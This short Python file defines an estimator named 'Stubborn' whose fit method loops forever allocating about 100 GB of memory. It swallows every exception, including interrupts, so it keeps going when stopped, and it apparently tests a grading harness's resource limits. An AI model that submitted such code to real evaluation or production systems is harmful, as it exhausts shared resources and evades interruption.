class Stubborn:
    def fit(self, X, y):
        while True:
            try:
                self.blocks = [b'x' * (1 << 20) for _ in range(100_000)]
            except BaseException:
                self.blocks = []


def get_estimator():
    return Stubborn()
